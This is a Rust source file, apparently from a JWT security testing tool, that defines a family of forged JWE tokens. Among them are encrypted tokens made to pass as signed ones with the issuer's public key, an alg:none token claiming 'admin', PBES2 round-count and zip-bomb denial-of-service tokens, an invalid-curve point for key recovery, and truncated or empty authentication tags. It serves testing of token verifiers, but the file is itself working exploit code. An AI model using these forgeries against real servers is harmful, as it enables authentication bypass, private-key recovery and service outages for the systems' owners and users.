//! Encrypted tokens made to be taken for signed ones, or to keep the reader busy.

use serde_json::{Value, json};

use crate::{
    attack::{
        Family, Forged, Forgery, Make, Need, Signed, Stage,
        draft::{Draft, raw},
    },
    jose::{b64, jwe},
    kit::rng::SystemRng,
};

const CONFUSED: &str = "What can be decrypted is taken as proven: anyone with the public key can write any token (CVE-2023-51774).";
const BUSY: &str = "One small token keeps the server busy or fills its memory (RFC 8725 §3.6).";
const WEAK: &str = "A key management that must not be used is accepted (RFC 8725 §3.2).";

pub(super) static FAMILY: Family = Family {
    name: "jwe",
    title: "JWE",
    says: "Encrypted tokens made to be taken for signed ones, or to keep the reader busy.",
    stage: Stage::Form,
    forgeries: &[
        Forgery {
            name: "jwe-for-jws",
            title: "JWE where a JWS is due",
            mutates: "The claims stand in a JWE for the issuer's public key, which anyone can make; nothing is signed.",
            source: "CVE-2023-51774; jwt-hack, Wycheproof",
            means: CONFUSED,
            needs: &[Need::PublicKey],
            make: Make::Token(|d| sealed(d, None, &d.payload()?)),
            ..forgery()
        },
        Forgery {
            name: "jwe-dir",
            title: "JWE with `dir`",
            mutates: "The claims stand in a JWE that says that the key is known beforehand.",
            source: "RFC 7518 §4.5; own",
            means: CONFUSED,
            make: Make::Token(|d| encrypted(d, &json!({ "alg": "dir", "enc": "A256GCM" }), 0)),
            ..forgery()
        },
        Forgery {
            name: "jwe-rsa1-5",
            title: "RSA1_5",
            mutates: "A JWE whose key is wrapped with RSA1_5: how the server refuses may give the key away.",
            source: "RFC 8725 §3.2; jwt-hack, Wycheproof",
            means: WEAK,
            make: Make::Token(|d| {
                encrypted(d, &json!({ "alg": "RSA1_5", "enc": "A128CBC-HS256" }), 256)
            }),
            ..forgery()
        },
        Forgery {
            name: "jwe-pbes2-iterations",
            title: "PBES2 with two thousand million rounds",
            mutates: "A JWE whose `p2c` asks for 2,147,483,647 rounds.",
            source: "RFC 8725bis; CVE-2023-50658; jwt-hack",
            means: BUSY,
            make: Make::Token(|d| {
                encrypted(
                    d,
                    &json!({ "alg": "PBES2-HS512+A256KW", "enc": "A256GCM", "p2s": b64::encode([7; 16]), "p2c": 2_147_483_647_u32 }),
                    40,
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "jwe-invalid-curve",
            title: "Point not on the curve",
            mutates: "A JWE whose `epk` is no point of P-256: answers to such points give a private key away.",
            source: "RFC 8725 §3.4; CVE-2017-16007; Wycheproof",
            means: "Points are not checked to lie on their curve: the private key can be computed from answers.",
            make: Make::Token(|d| {
                encrypted(
                    d,
                    &json!({ "alg": "ECDH-ES", "enc": "A256GCM", "epk": { "kty": "EC", "crv": "P-256", "x": b64::encode([1; 32]), "y": b64::encode([2; 32]) } }),
                    0,
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "jwe-zip",
            title: "Compressed JWE",
            mutates: "A JWE for the issuer's public key with `zip`: the claims with 8 MB of white space after them, a thousand times smaller on the way.",
            source: "RFC 8725 §3.6; CVE-2024-21319; jwt-hack",
            means: BUSY,
            needs: &[Need::PublicKey],
            make: Make::Token(|d| {
                sealed(
                    d,
                    Some("DEF"),
                    &format!("{}{}", d.payload()?, " ".repeat(8 * 1024 * 1024)),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "jwe-tag-cut",
            title: "Tag cut",
            mutates: "The authentication tag of the token is cut to one byte.",
            source: "RFC 7516 §5.2; CVE-2016-4000; Wycheproof",
            means: "Short tags are accepted: the text can be changed without the key.",
            make: Make::Token(|d| tag(d, |t| t.into_iter().take(1).collect())),
            ..forgery()
        },
        Forgery {
            name: "jwe-tag-empty",
            title: "Tag empty",
            mutates: "The authentication tag of the token is left out, its dot stays.",
            source: "RFC 7516 §5.2; Wycheproof",
            means: "A missing tag is accepted: the text can be changed without the key.",
            make: Make::Token(|d| tag(d, |_| Vec::new())),
            ..forgery()
        },
        Forgery {
            name: "jwe-ciphertext-changed",
            title: "Ciphertext changed",
            mutates: "One bit of the ciphertext is flipped, the tag stays.",
            source: "RFC 7516 §5.2; Wycheproof",
            means: "The tag is not checked: the text can be changed without the key.",
            make: Make::Token(ciphertext),
            ..forgery()
        },
        Forgery {
            name: "jws-for-jwe",
            title: "JWS where a JWE is due",
            mutates: "An unsigned JWT stands where the token is encrypted.",
            source: "RFC 8725bis; own",
            means: "A plain token is taken where an encrypted one is due: whoever writes needs no key.",
            make: Make::Token(jws),
            ..forgery()
        },
    ],
    ..Family::BASE
};

/// What its forgeries have in common.
const fn forgery() -> Forgery {
    Forgery::of(&FAMILY)
}

/// The parts of a compact JWE.
fn five<'a>(d: &Draft<'a>) -> Result<[&'a str; 5], String> {
    let parts: Vec<&str> = d.raw.split('.').collect();
    <[&str; 5]>::try_from(parts).map_err(|_| "the token is not encrypted".to_owned())
}

/// A real JWE for the issuer's public key: it opens, if the server has the private part at hand.
fn sealed(d: &Draft<'_>, zip: Option<&str>, plain: &str) -> Forged {
    if five(d).is_ok() {
        return Err("the token is encrypted already".into());
    }
    let key = d
        .with
        .public
        .as_ref()
        .ok_or("needs the issuer's public key: give its key set or PEM")?;
    let alg = match (key.kty(), key.text("crv")) {
        ("RSA", _) => "RSA-OAEP",
        ("EC", Some("P-256" | "P-384" | "P-521")) => "ECDH-ES",
        _ => {
            return Err(format!(
                "nothing is encrypted for a key of {}",
                crate::kit::text::escape(&key.describe())
            ));
        }
    };
    let mut header = serde_json::Map::from_iter([
        ("alg".to_owned(), Value::from(alg)),
        ("enc".to_owned(), "A256GCM".into()),
    ]);
    if let Some(zip) = zip {
        header.insert("zip".into(), zip.into());
    }
    let text = jwe::Draft::compact(header, crate::attack::ingredients::unbound(key))
        .seal(jwe::Form::Compact, plain.as_bytes(), &SystemRng)
        .map_err(|e| e.to_string())?;
    raw(text, Signed::Nothing)
}

/// A JWE of the claims under `header`. Its text need not open: a server that does what this header
/// says before it asks whether it should has gone too far.
fn encrypted(d: &Draft<'_>, header: &Value, wrapped: usize) -> Forged {
    if five(d).is_ok() {
        return Err("the token is encrypted already".into());
    }
    let payload = d.payload()?;
    let filler = |n: usize| {
        (0..n)
            .map(|i| (i * 37 % 251 + 3) as u8)
            .collect::<Vec<u8>>()
    };
    raw(
        [
            b64::encode(header.to_string()),
            b64::encode(filler(wrapped)),
            b64::encode(filler(12)),
            b64::encode(filler(payload.len().max(64))),
            b64::encode(filler(16)),
        ]
        .join("."),
        Signed::Nothing,
    )
}

fn tag(d: &Draft<'_>, change: impl Fn(Vec<u8>) -> Vec<u8>) -> Forged {
    let [header, key, iv, text, tag] = five(d)?;
    let bytes = b64::decode(tag).map_err(|e| format!("the tag is not base64url: {e}"))?;
    let tag = b64::encode(change(bytes));
    raw(format!("{header}.{key}.{iv}.{text}.{tag}"), Signed::Altered)
}

fn ciphertext(d: &Draft<'_>) -> Forged {
    let [header, key, iv, text, tag] = five(d)?;
    let mut bytes =
        b64::decode(text).map_err(|e| format!("the ciphertext is not base64url: {e}"))?;
    let first = bytes.first_mut().ok_or("the ciphertext is empty")?;
    *first ^= 1;
    let text = b64::encode(bytes);
    raw(format!("{header}.{key}.{iv}.{text}.{tag}"), Signed::Altered)
}

fn jws(d: &Draft<'_>) -> Forged {
    five(d)?;
    raw(
        format!(
            "{}.{}.",
            b64::encode(r#"{"alg":"none"}"#),
            b64::encode(r#"{"sub":"admin"}"#)
        ),
        Signed::Nothing,
    )
}
